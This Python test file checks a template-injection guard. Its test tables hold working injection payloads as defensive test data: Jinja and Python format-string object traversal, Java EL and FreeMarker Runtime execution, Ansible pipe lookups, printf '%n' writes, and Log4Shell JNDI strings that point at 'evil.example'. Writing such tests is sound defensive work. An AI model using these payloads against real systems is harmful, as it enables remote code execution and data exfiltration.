from __future__ import annotations

from typing import TYPE_CHECKING

from hypothesis import given
from hypothesis import strategies as st

from sekisho.guards import template
from sekisho.guards.template import LONGEST, judge_lookup, judge_template
from tablekit import rows

if TYPE_CHECKING:
    import pytest


@rows(
    "value",
    [
        "{0.__class__}", "{a[__globals__]}", "{user.__init__.__globals__[SECRET]}", "{{ ''.__class__ }}", "{{ {}.__class__ }}", "{{ __import__('os') }}", "{{ x|attr('a') }}", "{{ ().mro() }}", "{{ cycler.a }}", "{{ self._TemplateReference }}", "{% include '/etc/x' %}", "{%- import 'os' %}", "{% include '../x.html' %}", "{% include '/x.html' %}", "{% include name %}", "{% import 'os.py' %}",
        "${T(java.lang.Runtime)}", "#{java.lang.Runtime}", "${process.env}", "%hn", "%hhn", "%12$n", "%x%x%x%x%x%x%x%x", "%p.%p.%p.%p.%p.%p.%p.%p.",
    ],
)  # fmt: skip
def test_what_reaches_behind_the_values_is_objected_to(value: str) -> None:
    assert [each.rule for each in judge_template(value).objections] == ["template-reaches"]


@rows(
    "value",
    [
        "", "a", "{name}", "{user.name} {0:>10}", "{{ name }}", "{{ states('a') | round(1) }}", "{% if a %}b{% endif %}", "%Y-%m-%d", "%h %s%n%b", "${name}", "{__init__}", "__all__ in {a}", "%s %s", "json", "{{ self.name }}", "{{url}}", "%d%%", "{a} and b.__class__", "process.env {a}", "{% include 'parts/footer.html' ignore missing %}", '{%- extends "base.html.j2" %}', "{" * 9000, "{{" + " " * 300 + "x.__class__",
    ],
)  # fmt: skip
def test_an_honest_template_passes(value: str) -> None:
    assert not judge_template(value).objections


def test_more_suspicious_names_than_anybody_writes_are_objected_to() -> None:
    assert judge_template("{a}" + "__b__ " * 1000).objections


def test_in_a_long_text_a_name_is_enough_and_without_one_it_passes(monkeypatch: pytest.MonkeyPatch) -> None:
    long = "{a}" + "b" * LONGEST
    assert not judge_template(long).objections
    assert judge_template(f"{long} c.__class__").objections

    class Blind:
        def may_match(self, _: str) -> bool:
            return True

    monkeypatch.setattr(template, "_names", Blind)
    assert judge_template(long).objections


@given(st.text(alphabet="{}%$#._ahn1", max_size=80))
def test_no_text_makes_it_fail(value: str) -> None:
    judge_template(value)


@rows(
    ("value", "expected"),
    [
        ("{{ lookup('pipe','id') }}", True),
        ('{{ query("ansible.builtin.file", "/etc/passwd") }}', True),
        ("{{ lookup('color') }}", False),
        ("lookup('pipe','id')", False),
        ("#set($e='e')$e.getClass().forName('java.lang.Runtime')", True),
        ("<#assign x='freemarker.template.utility.Execute'?new()>${x('id')}", True),
        ("{{#with s}}{{constructor.constructor}}{{/with}}", True),
        ("{{#with user}}{{name}}{{/with}}", False),
        ("#set($e='e')$e.length()", False),
        ("getClass is a method", False),
    ],
)
def test_lookups_and_classes_reach_behind_the_values(value: str, *, expected: bool) -> None:
    assert bool(judge_template(value).objections) is expected


@rows(
    ("value", "expected"),
    [
        ("${jndi:ldap://evil.example/a}", True),
        ("a ${ JNDI:dns://x} b", True),
        ("${${lower:j}ndi:ldap://evil.example/a}", True),
        ("cost ${price} and jndi docs", False),
        ("jndi:", False),
    ],
)
def test_a_lookup_in_what_is_logged_is_objected_to(value: str, *, expected: bool) -> None:
    assert [each.rule for each in judge_lookup(value).objections] == (["template-reaches"] if expected else [])
